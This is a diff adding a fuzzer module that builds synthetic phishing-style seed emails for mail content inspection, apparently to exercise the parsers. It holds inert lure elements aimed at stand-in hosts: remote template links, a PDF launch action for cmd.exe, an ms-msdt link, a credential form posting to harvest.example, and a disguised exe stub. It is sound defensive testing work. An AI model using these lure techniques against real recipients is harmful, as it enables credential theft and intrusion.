@@ -1,0 +1,334 @@
+// Synthetic seed mails for the fuzzer: small, written here byte by byte, each carrying an
+// attachment of a format the content inspection reads (zip, OOXML, OLE, PDF, RTF, HTML, tar/gzip)
+// and the header fields the route and authentication parsers read. The corpora hold real mail
+// but few small examples of some formats; these make sure every reader is reached by mutations
+// of a few kilobytes. Nothing here is a real program or a copy of a real sample.
+import { crc32, deflateRawSync, deflateSync, gzipSync } from "node:zlib";
+
+const enc = new TextEncoder();
+const u16 = (v) => [v & 0xff, (v >>> 8) & 0xff];
+const u32 = (v) => [v & 0xff, (v >>> 8) & 0xff, (v >>> 16) & 0xff, (v >>> 24) & 0xff];
+const bytes = (data) => (typeof data === "string" ? enc.encode(data) : data);
+
+function concat(chunks) {
+  const out = new Uint8Array(chunks.reduce((n, c) => n + c.length, 0));
+  let o = 0;
+  for (const c of chunks) {
+    out.set(c, o);
+    o += c.length;
+  }
+  return out;
+}
+
+/** PKWARE APPNOTE zip: local headers, central directory, end record; `deflate` per file. */
+function zip(files) {
+  const chunks = [];
+  const central = [];
+  let offset = 0;
+  for (const f of files) {
+    const name = enc.encode(f.name);
+    const data = bytes(f.data);
+    const packed = f.deflate ? new Uint8Array(deflateRawSync(data)) : data;
+    const method = f.deflate ? 8 : 0;
+    const flags = 0x800 | (f.encrypted ? 1 : 0);
+    const crc = crc32(data);
+    const local = Uint8Array.from([...u32(0x04034b50), ...u16(20), ...u16(flags), ...u16(method), 0, 0, 0, 0, ...u32(crc), ...u32(packed.length), ...u32(data.length), ...u16(name.length), 0, 0]);
+    chunks.push(local, name, packed);
+    central.push(
+      Uint8Array.from([...u32(0x02014b50), ...u16(20), ...u16(20), ...u16(flags), ...u16(method), 0, 0, 0, 0, ...u32(crc), ...u32(packed.length), ...u32(data.length), ...u16(name.length), 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, ...u32(offset)]),
+      name,
+    );
+    offset += local.length + name.length + packed.length;
+  }
+  const cd = concat(central);
+  chunks.push(cd, Uint8Array.from([...u32(0x06054b50), 0, 0, 0, 0, ...u16(files.length), ...u16(files.length), ...u32(cd.length), ...u32(offset), 0, 0]));
+  return concat(chunks);
+}
+
+const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+const rels = (items) =>
+  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items
+    .map(([id, type, target, external]) => `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ""}/>`)
+    .join("")}</Relationships>`;
+
+/** WordprocessingML package with a remote template, an external OLE link and a VBA project. */
+function docm() {
+  return zip([
+    {
+      name: "[Content_Types].xml",
+      deflate: true,
+      data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+    },
+    { name: "_rels/.rels", deflate: true, data: rels([["rId1", "officeDocument", "word/document.xml"]]) },
+    { name: "word/document.xml", deflate: true, data: '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>' },
+    { name: "word/_rels/document.xml.rels", deflate: true, data: rels([["rId2", "oleObject", "http://198.51.100.7/o.bin", true], ["rId3", "hyperlink", "https://login.example-bank.test/", true]]) },
+    { name: "word/settings.xml", deflate: true, data: "<w:settings/>" },
+    { name: "word/_rels/settings.xml.rels", deflate: true, data: rels([["rId1", "attachedTemplate", "https://203.0.113.9/t.dotm", true]]) },
+    { name: "word/vbaProject.bin", data: new Uint8Array(64) },
+  ]);
+}
+
+/** Spreadsheet package with an embedded OLE object. */
+function xlsx(embedded) {
+  return zip([
+    {
+      name: "[Content_Types].xml",
+      deflate: true,
+      data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
+    },
+    { name: "_rels/.rels", data: rels([["rId1", "officeDocument", "xl/workbook.xml"]]) },
+    { name: "xl/workbook.xml", deflate: true, data: "<workbook/>" },
+    { name: "xl/embeddings/oleObject1.bin", data: embedded },
+  ]);
+}
+
+/**
+ * [MS-CFB] version 3 compound file without a mini stream: every stream is padded to 4096 bytes
+ * (the mini-stream cutoff), siblings chained through the right pointer. `entries` are
+ * { path, data? } (no data: a storage).
+ */
+function ole(entries, rootClsid) {
+  const ENDOFCHAIN = 0xfffffffe;
+  const FREESECT = 0xffffffff;
+  const FATSECT = 0xfffffffd;
+  const NOSTREAM = 0xffffffff;
+  const root = { name: "Root Entry", type: 5, children: [] };
+  const storage = (path) => {
+    let node = root;
+    for (const part of path.split("/").filter((p) => p !== "")) {
+      let child = node.children.find((c) => c.name === part);
+      if (!child) node.children.push((child = { name: part, type: 1, children: [] }));
+      node = child;
+    }
+    return node;
+  };
+  for (const e of entries) {
+    if (e.data === undefined) {
+      storage(e.path);
+      continue;
+    }
+    const cut = e.path.lastIndexOf("/");
+    const data = new Uint8Array(Math.max(4096, e.data.length));
+    data.set(bytes(e.data));
+    storage(cut < 0 ? "" : e.path.slice(0, cut)).children.push({ name: e.path.slice(cut + 1), type: 2, children: [], data });
+  }
+  const nodes = [];
+  const visit = (n) => {
+    n.index = nodes.length;
+    nodes.push(n);
+    n.children.forEach(visit);
+  };
+  visit(root);
+  const streams = nodes.filter((n) => n.type === 2);
+  const dirSectors = Math.ceil(nodes.length / 4);
+  const dataSectors = streams.reduce((s, n) => s + Math.ceil(n.data.length / 512), 0);
+  const fatSectors = Math.ceil((1 + dirSectors + dataSectors + 1) / 127);
+  const fat = new Array(fatSectors * 128).fill(FREESECT);
+  let next = 0;
+  const allocate = (count) => {
+    const first = next;
+    for (let k = 0; k < count; k++) fat[first + k] = k === count - 1 ? ENDOFCHAIN : first + k + 1;
+    next += count;
+    return first;
+  };
+  for (let k = 0; k < fatSectors; k++) fat[next++] = FATSECT;
+  const dirStart = allocate(dirSectors);
+  for (const n of streams) n.start = allocate(Math.ceil(n.data.length / 512));
+  const out = new Uint8Array(512 + next * 512);
+  const view = new DataView(out.buffer);
+  out.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 0);
+  view.setUint16(24, 0x3e, true);
+  view.setUint16(26, 3, true);
+  view.setUint16(28, 0xfffe, true);
+  view.setUint16(30, 9, true);
+  view.setUint16(32, 6, true);
+  view.setUint32(44, fatSectors, true);
+  view.setUint32(48, dirStart, true);
+  view.setUint32(56, 4096, true);
+  view.setUint32(60, ENDOFCHAIN, true);
+  view.setUint32(68, ENDOFCHAIN, true);
+  for (let i = 0; i < 109; i++) view.setUint32(76 + i * 4, i < fatSectors ? i : FREESECT, true);
+  const sector = (s) => 512 + s * 512;
+  fat.forEach((v, i) => view.setUint32(sector(0) + i * 4, v, true));
+  for (const n of streams) out.set(n.data, sector(n.start));
+  for (let i = 0; i < dirSectors * 4; i++) {
+    const o = sector(dirStart) + i * 128;
+    view.setUint32(o + 68, NOSTREAM, true);
+    view.setUint32(o + 72, NOSTREAM, true);
+    view.setUint32(o + 76, NOSTREAM, true);
+  }
+  for (const n of nodes) {
+    const o = sector(dirStart) + n.index * 128;
+    const name = n.name.slice(0, 31);
+    for (let k = 0; k < name.length; k++) view.setUint16(o + k * 2, name.charCodeAt(k), true);
+    view.setUint16(o + 64, (name.length + 1) * 2, true);
+    out[o + 66] = n.type;
+    out[o + 67] = 1;
+    view.setUint32(o + 76, n.children.length > 0 ? n.children[0].index : NOSTREAM, true);
+    n.children.forEach((c, k) => {
+      if (k + 1 < n.children.length) view.setUint32(sector(dirStart) + c.index * 128 + 72, n.children[k + 1].index, true);
+    });
+    if (n === root && rootClsid) out.set(rootClsid, o + 80);
+    view.setUint32(o + 116, n.type === 2 ? n.start : n.type === 5 ? ENDOFCHAIN : 0, true);
+    view.setUint32(o + 120, n.type === 2 ? n.data.length : 0, true);
+  }
+  return out;
+}
+
+/** A Word 97-2003 document with a VBA project and an Equation Editor object. */
+function oleWord() {
+  const fib = new Uint8Array(4096);
+  fib.set([0xec, 0xa5, 0xc1, 0x00], 0);
+  return ole([
+    { path: "WordDocument", data: fib },
+    { path: "1Table", data: new Uint8Array(16) },
+    { path: "Macros/VBA/dir", data: new Uint8Array(16) },
+    { path: "Macros/VBA/_VBA_PROJECT", data: new Uint8Array(16) },
+    { path: "ObjectPool/_1234/Equation Native", data: new Uint8Array(32) },
+  ]);
+}
+
+/** PDF with an auto action, JavaScript, a URI link, a launch action and an object stream. */
+function pdf() {
+  const hidden = "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://xn--pple-43d.test/login) >> >>\n<< /S /Launch /F (cmd.exe) >>\n";
+  const offsets = "10 0 11 95 ";
+  const packed = new Uint8Array(deflateSync(enc.encode(offsets + hidden)));
+  return concat([
+    enc.encode("%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R /Names << /EmbeddedFiles 4 0 R >> >>\nendobj\n"),
+    enc.encode("3 0 obj\n<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>\nendobj\n"),
+    enc.encode("5 0 obj\n<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://bit.ly/3xyz) >> >>\nendobj\n"),
+    enc.encode(`9 0 obj\n<< /Type /ObjStm /N 2 /First ${offsets.length} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`),
+    packed,
+    enc.encode("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"),
+  ]);
+}
+
+/** RTF with an OLE 1.0 Equation object and a remote template. */
+function rtf() {
+  const lpstr = (s) => [...u32(s.length + 1), ...enc.encode(s), 0];
+  const object = [...u32(0x0501), ...u32(2), ...lpstr("Equation.3"), ...u32(0), ...u32(0), ...u32(8), 1, 2, 3, 4, 5, 6, 7, 8];
+  const hex = object.map((b) => b.toString(16).padStart(2, "0")).join("");
+  return enc.encode(
+    `{\\rtf1\\ansi{\\*\\template http://198.51.100.3/t.dot}\\pard Invoice\\par{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata ${hex.slice(0, 40)}\r\n{\\*\\junk}${hex.slice(40)}}}}`,
+  );
+}
+
+const tar = (name, data) => {
+  const header = new Uint8Array(512);
+  header.set(enc.encode(name), 0);
+  header.set(enc.encode("0000644\0"), 100);
+  header.set(enc.encode(`${data.length.toString(8).padStart(11, "0")}\0`), 124);
+  header.set(enc.encode("ustar\x0000"), 257);
+  header[156] = 0x30;
+  let sum = 0;
+  header.fill(0x20, 148, 156);
+  for (const b of header) sum += b;
+  header.set(enc.encode(`${sum.toString(8).padStart(6, "0")}\0 `), 148);
+  const body = new Uint8Array(Math.ceil(data.length / 512) * 512);
+  body.set(data);
+  return concat([header, body, new Uint8Array(1024)]);
+};
+
+const mz = () => {
+  const b = new Uint8Array(512);
+  b.set([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0], 0);
+  b.set(u32(0x80), 0x3c);
+  b.set([0x50, 0x45, 0, 0, 0x4c, 0x01], 0x80);
+  return b;
+};
+
+/** Base64 with 76-character lines (RFC 2045 §6.8). */
+function base64Lines(data) {
+  const text = Buffer.from(data).toString("base64");
+  const lines = [];
+  for (let i = 0; i < text.length; i += 76) lines.push(text.slice(i, i + 76));
+  return lines.join("\r\n");
+}
+
+const HEADERS = [
+  "Received: from mx.example.co.jp (mx.example.co.jp [192.0.2.10]) by mbox.example.co.jp with ESMTPS id 4Zx1; Tue, 3 Jun 2025 09:15:02 +0900",
+  "Authentication-Results: mx.example.co.jp; spf=fail smtp.mailfrom=mof.go.jp; dkim=none; dmarc=fail (p=REJECT sp=REJECT dis=NONE) header.from=mof.go.jp",
+  "ARC-Authentication-Results: i=1; mx.google.com; spf=pass smtp.mailfrom=sender.example",
+  "Received: from unknown (HELO mail.mof.go.jp) (116.25.3.4) by mx.example.co.jp with SMTP; Tue, 3 Jun 2025 09:15:00 +0900",
+  "Received: from [10.1.2.3] (helo=pc01) by 116.25.3.4 with esmtpa (Exim 4.96) id 1x; Tue, 03 Jun 2025 08:14:59 +0800",
+  "X-Forefront-Antispam-Report: CIP:116.25.3.4;CTRY:CN;LANG:ja;SCL:5;",
+  "X-Originating-IP: [116.25.3.4]",
+  "From: =?ISO-2022-JP?B?GyRCOk1MM0YtGyhC?= <info@mof.go.jp>",
+  "Reply-To: =?UTF-8?Q?=E7=AA=93=E5=8F=A3?= <mof-reply@freemail.example>",
+  "Return-Path: <bounce@mail-mof.go.jp.example>",
+  "To: staff1@example.co.jp, staff2@example.co.jp, \"Exec, One\" <exec1@example.co.jp>",
+  "Cc: undisclosed-recipients:;",
+  "Subject: =?UTF-8?B?UmU6IOOAkOmHjeimgeOAkeiri+axguabuA==?=",
+  "Date: Tue, 3 Jun 2025 01:14:58 +0800",
+  "Message-ID: <20250603011458.1234@mx.other.example>",
+  "MIME-Version: 1.0",
+];
+
+const HTML = [
+  '<html><head><base href="https://base.example/"><meta http-equiv="refresh" content="5; url=https://evil.example/r"></head><body>',
+  '<p>ご確認ください: <a href="https://login.evil.example/mof">https://www.mof.go.jp/</a></p>',
+  '<a href="http://www.go.jp@203.0.113.5/x">こちら</a> <a href="https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example%2F&amp;data=1">link</a>',
+  '<a href="javascript:alert(1)">x</a><a href="ms-msdt:/id PCWDiagnostic">y</a><a href="relative/file.zip"><img src="cid:1" alt="invoice"></a>',
+  '<span style="display:none">hidden <a href="https://hidden.example/">www.bank.example</a></span>',
+  '<form action="https://harvest.example/p" method="post"><input type="password" name="p"><textarea></textarea></form>',
+  "</body></html>",
+].join("\r\n");
+
+/** multipart/mixed: an HTML (or text) body and one attachment. */
+function mail(name, type, data, { html = HTML, encoding = "base64" } = {}) {
+  const boundary = `----=_Part_${name.length}_fuzz`;
+  const body =
+    encoding === "base64"
+      ? base64Lines(bytes(data))
+      : Buffer.from(bytes(data)).toString("latin1");
+  return enc.encode(
+    [
+      ...HEADERS,
+      `Content-Type: multipart/mixed; boundary="${boundary}"`,
+      "",
+      `--${boundary}`,
+      "Content-Type: multipart/alternative; boundary=alt",
+      "",
+      "--alt",
+      "Content-Type: text/plain; charset=iso-2022-jp",
+      "Content-Transfer-Encoding: 7bit",
+      "",
+      "\x1b$B$3$s$K$A$O\x1b(B https://www.mof.go.jp.evil.example/login http://bit.ly/abc",
+      "--alt",
+      "Content-Type: text/html; charset=utf-8",
+      "Content-Transfer-Encoding: quoted-printable",
+      "",
+      Buffer.from(html, "utf8").toString("latin1").replace(/=/g, "=3D"),
+      "--alt--",
+      `--${boundary}`,
+      `Content-Type: ${type}; name="${name}"`,
+      `Content-Disposition: attachment; filename*=UTF-8''${encodeURIComponent(name)}`,
+      `Content-Transfer-Encoding: ${encoding}`,
+      "",
+      body,
+      `--${boundary}--`,
+      "",
+    ].join("\r\n"),
+  );
+}
+
+/** The synthetic seeds, by name (stable order: replays depend on it). */
+export function syntheticSeeds() {
+  const exe = mz();
+  return [
+    { name: "synthetic/zip.eml", bytes: mail("請求書.zip", "application/zip", zip([{ name: "請求書.pdf.exe", data: exe, deflate: true }, { name: "readme.txt", data: "x".repeat(300), deflate: true }, { name: "secret.docx", data: "enc", encrypted: true }, { name: "inner.zip", data: zip([{ name: "a.js", data: "WScript.Echo(1)" }]) }])) },
+    { name: "synthetic/docm.eml", bytes: mail("report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docm()) },
+    { name: "synthetic/xlsx-ole.eml", bytes: mail("book.xlsx", "application/octet-stream", xlsx(oleWord())) },
+    { name: "synthetic/ole.eml", bytes: mail("old.doc", "application/msword", oleWord()) },
+    { name: "synthetic/pdf.eml", bytes: mail("scan.pdf", "application/pdf", pdf()) },
+    { name: "synthetic/rtf.eml", bytes: mail("memo.doc", "application/rtf", rtf()) },
+    { name: "synthetic/html.eml", bytes: mail("login.html", "text/html", HTML, { encoding: "quoted-printable" }) },
+    { name: "synthetic/tgz.eml", bytes: mail("logs.tar.gz", "application/gzip", new Uint8Array(gzipSync(tar("run.exe", exe)))) },
+    {
+      name: "synthetic/plain.eml",
+      bytes: enc.encode(
+        [...HEADERS, "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit", "", "お支払い: https://www.mof.go.jp@198.51.100.4/pay http://[2001:db8::1]/x hxxp://defanged.example www.example-bank.test/login", ""].join("\r\n"),
+      ),
+    },
+  ];
+}
